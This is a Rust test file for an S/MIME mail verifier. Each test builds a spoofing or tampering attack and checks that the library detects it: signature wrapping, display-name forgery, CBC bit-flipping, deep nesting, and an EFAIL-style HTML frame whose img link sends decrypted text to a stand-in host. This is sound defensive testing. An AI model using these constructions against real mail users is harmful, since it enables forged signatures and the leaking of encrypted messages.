//! Mails that strangers make to look signed, or to get at what is encrypted. One test for each shape.

use crate::people::*;
use data_encoding::BASE64;
use mail::smime::Language;
use pki::cms::{ContentCipher, Form};
use time::Duration;

const CIPHER: ContentCipher = ContentCipher::Aes256Gcm;

#[test]
fn a_signature_of_somebody_else() {
    for form in [Form::Detached, Form::Opaque] {
        check_spoof(sign(MAIL, &EVE, form), &["address_mismatch"]);
        check_spoof(seal(&sign(MAIL, &EVE, form), CIPHER), &["address_mismatch"]);
    }
}

#[test]
fn a_text_that_was_changed() {
    let signed = sign(MAIL, &ALICE, Form::Detached);
    let opened = check_spoof(signed.replace("At noon.", "At two."), &["signature"]);

    assert_eq!(
        opened.state.problems[0].words(Language::English),
        "The signature of alice@example.com does not count: the content was changed after it was signed."
    );
}

#[test]
fn a_signature_over_a_part() {
    let part = sign(MAIL, &ALICE, Form::Detached);
    let mail = format!(
        "From: alice@example.com\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nPay Eve.\r\n--m\r\n{}\r\n--m--\r\n",
        entity(&part)
    );
    let opened = check_spoof(&mail, &["only_a_part"]);

    assert_eq!(content(&opened), mail);
    assert!(opened.state.signatures.is_empty());
}

#[test]
fn a_signed_mail_that_is_forwarded() {
    let signed = sign(MAIL, &ALICE, Form::Opaque);
    let mail = format!(
        "From: alice@example.com\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nPay Eve.\r\n\
         --m\r\nContent-Type: message/rfc822\r\n\r\n{signed}\r\n--m--\r\n"
    );
    check_spoof(mail, &["only_a_part"]);
    let forwarded =
        format!("From: alice@example.com\r\nContent-Type: message/rfc822\r\n\r\n{signed}");
    check_spoof(forwarded, &["only_a_part"]);
}

#[test]
fn a_signed_mail_by_another_inside_of_a_signed_one() {
    let mail = format!("From: eve@example.com\r\nContent-Type: message/rfc822\r\n\r\n{}", MAIL);

    check_spoof(sign(&mail, &EVE, Form::Opaque), &["inner_author"]);
    let own = format!("From: alice@example.com\r\nContent-Type: message/rfc822\r\n\r\n{MAIL}");
    check(sign(&own, &ALICE, Form::Opaque), &[]);
}

#[test]
fn several_fields_of_authors() {
    let signed = sign(MAIL, &EVE, Form::Detached);

    check_spoof(format!("From: eve@example.com\r\n{signed}"), &["several_authors"]);
    let (head, rest) = signed.split_once("To:").unwrap();
    check_spoof(format!("{head}From: eve@example.com\r\nTo:{rest}"), &["several_authors"]);
}

#[test]
fn several_authors_of_whom_one_signed() {
    let both = MAIL.replace("Alice <alice@example.com>", "alice@example.com, eve@example.com");

    check_spoof(sign(&both, &EVE, Form::Detached), &["address_mismatch"]);
}

#[test]
fn a_sender_who_is_not_the_author() {
    let mail = MAIL.replace("To:", "Sender: eve@example.com\r\nTo:");

    check_spoof(sign(&mail, &EVE, Form::Detached), &["on_behalf"]);
    check(sign(&mail, &ALICE, Form::Detached), &[]);
}

#[test]
fn a_name_that_looks_like_an_address() {
    for name in [
        "\"alice@example.com\"",
        "\"Alice (alice@example.com)\"",
        "=?utf-8?Q?alice=40example.com?=",
    ] {
        let mail = MAIL.replace("Alice <alice@example.com>", &format!("{name} <eve@example.com>"));
        check_spoof(sign(&mail, &EVE, Form::Detached), &["display_name"]);
    }
    let same = MAIL.replace("Alice <", "\"alice@example.com\" <");
    check(sign(&same, &ALICE, Form::Detached), &[]);
}

#[test]
fn a_mail_without_an_author() {
    let signed = sign(MAIL, &ALICE, Form::Detached);

    check_spoof(signed.replace("From: Alice <alice@example.com>\r\n", ""), &["author_missing"]);
}

#[test]
fn a_signature_that_carries_another_text() {
    let opaque = sign(MAIL, &ALICE, Form::Opaque);
    let signature = opaque.split_once("\r\n\r\n").unwrap().1;
    let mail = format!(
        "From: alice@example.com\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=m\r\n\r\n\
         --m\r\nContent-Type: text/plain\r\n\r\nPay Eve.\r\n--m\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{signature}\r\n--m--\r\n"
    );
    let opened = check_spoof(mail, &["content_twice"]);

    assert!(opened.content.is_none());
}

#[test]
fn a_signed_mail_without_signatures() {
    let body = [
        value(0x06, b"\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01"),
        value(0xa0, &value(0x04, ENTITY.as_bytes())),
    ];
    let signed =
        [value(0x02, b"\x01"), value(0x31, b""), value(0x30, &body.concat()), value(0x31, b"")];
    let message = [
        value(0x06, b"\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02"),
        value(0xa0, &value(0x30, &signed.concat())),
    ];
    let message = BASE64.encode(&value(0x30, &message.concat()));
    let mail = format!(
        "From: alice@example.com\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{message}\r\n"
    );
    let opened = check_spoof(mail, &["no_signature"]);

    assert_eq!(content(&opened), ENTITY);
}

#[test]
fn a_third_part_beside_the_signature() {
    let signed = sign(MAIL, &ALICE, Form::Detached);
    let part = "\r\n--=_signed_1\r\nContent-Type: text/plain\r\n\r\nPay Eve.\r\n";
    let last = signed.rfind("\r\n--=_signed_1--").unwrap();
    let more = format!("{}{part}{}", &signed[..last], &signed[last + 2..]);
    assert!(check_spoof(more, &["structure"]).content.is_none());
    let unclosed = &signed[..last];
    assert!(check_spoof(unclosed, &["structure"]).content.is_none());
}

#[test]
fn texts_around_a_signed_mail_are_not_shown() {
    let signed = sign(MAIL, &ALICE, Form::Detached);
    let framed = signed.replace("This is a signed mail.", "Pay Eve.") + "Pay Eve again.\r\n";
    let opened = check(framed, &[]);

    assert_eq!(content(&opened), ENTITY);
}

#[test]
fn an_encrypted_part_between_parts_that_carry_it_away() {
    let sealed = seal(MAIL, ContentCipher::Aes256Cbc);
    let mail = format!(
        "From: alice@example.com\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n\
         --m\r\nContent-Type: text/html\r\n\r\n<img src=\"https://eve.example/\r\n--m\r\n{}\r\n\
         --m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n",
        entity(&sealed)
    );
    let opened = check_spoof(&mail, &["only_a_part"]);

    assert_eq!(content(&opened), mail);
    assert!(!opened.state.is_encrypted());
}

#[test]
fn blocks_of_cbc_that_were_changed() {
    let html = "From: alice@example.com\r\nContent-Type: text/html\r\n\r\n<p>The secret of the company</p>\r\n";
    let sealed = seal(html, ContentCipher::Aes256Cbc);
    let (head, body) = sealed.split_once("\r\n\r\n").unwrap();
    let mut der = BASE64.decode(body.replace("\r\n", "").as_bytes()).unwrap();
    // A bit of the initialisation vector turns one of the text.
    let start = der.len() - 80;
    der[start + 3] ^= 1;
    let changed = format!("{head}\r\n\r\n{}\r\n", BASE64.encode(&der));
    let opened = check(changed, &["malleable"]);

    assert_ne!(content_bytes(&opened), entity(html).as_bytes());
    assert!(!opened.state.allows_remote_content());
    assert_eq!(
        opened.state.problems[0].words(Language::English),
        "Encrypted with AES-256-CBC: others could have changed parts of it on its way."
    );
}

#[test]
fn a_changed_content_of_gcm_or_a_wrong_key_gives_nothing() {
    let sealed = seal(MAIL, CIPHER);
    let (head, body) = sealed.split_once("\r\n\r\n").unwrap();
    let mut der = BASE64.decode(body.replace("\r\n", "").as_bytes()).unwrap();
    let last = der.len() - 30;
    der[last] ^= 1;
    let opened = open(format!("{head}\r\n\r\n{}\r\n", BASE64.encode(&der)));

    assert!(opened.content.is_none());
    assert_eq!(opened.state.problems[0].code(), "undecipherable");
}

#[test]
fn a_signature_around_a_foreign_secret() {
    let opened = check(sign(&seal(MAIL, CIPHER), &ALICE, Form::Detached), &["outside_only"]);

    assert_eq!(content(&opened), ENTITY);
    assert!(!opened.state.is_signed() && opened.state.is_sound());
    assert_eq!(
        opened.state.lines(Language::English)[0],
        "The encrypted mail is signed; its text is not."
    );
    check_spoof(
        sign(&seal(MAIL, CIPHER), &EVE, Form::Detached),
        &["address_mismatch", "outside_only"],
    );
}

#[test]
fn a_mail_that_is_wrapped_without_end() {
    let mut mail = MAIL.to_owned();
    for _ in 0..8 {
        mail = sign(&mail, &ALICE, Form::Opaque);
    }
    let opened = open(mail);

    assert!(opened.content.is_none());
    assert!(opened.state.problems.iter().any(|problem| problem.code() == "too_many_layers"));
}

fn content_bytes(opened: &mail::smime::Opened) -> &[u8] {
    opened.content.as_ref().unwrap()
}

/// Who wraps somebody's signed mail once more neither gives it a new date nor speaks for its author.
#[test]
fn a_signature_around_a_signature() {
    let old = NOW - Duration::days(20);
    let mail = sign(&sign_at(MAIL, &ALICE, Form::Detached, old), &EVE, Form::Opaque);
    let opened = check(mail, &[]);
    let lines = opened.state.lines(Language::English);
    assert_eq!(lines[0], "Signed by alice@example.com, on 2027-02-09 according to the sender.");
    let vouching: Vec<_> = opened.state.vouching().map(|it| it.addresses()).collect();
    assert_eq!(vouching, [["alice@example.com"]]);
}

/// The head that a reader sees may come from somebody else than the mail.
#[test]
fn a_head_that_names_another_author() {
    let opened = open(sign(MAIL, &ALICE, Form::Detached));
    let state = opened.state.clone().shown_as("Alice@Example.com");
    assert!(state.is_signed());
    let state = opened.state.shown_as("boss@example.com");
    assert!(!state.is_signed() && !state.is_sound());
    assert!(state.lines(Language::English).join(" ").contains("boss@example.com"));
    let plain = open(MAIL).state.shown_as("boss@example.com");
    assert!(plain.is_sound());
}

/// Programs that take mails apart go as deep as the mail does.
#[test]
fn mails_in_mails_without_end() {
    let deep = "Content-Type: message/rfc822\r\n\r\n".repeat(20_000);
    open(&deep);
    open(seal(&format!("From: alice@example.com\r\n{deep}"), ContentCipher::Aes256Gcm));
}
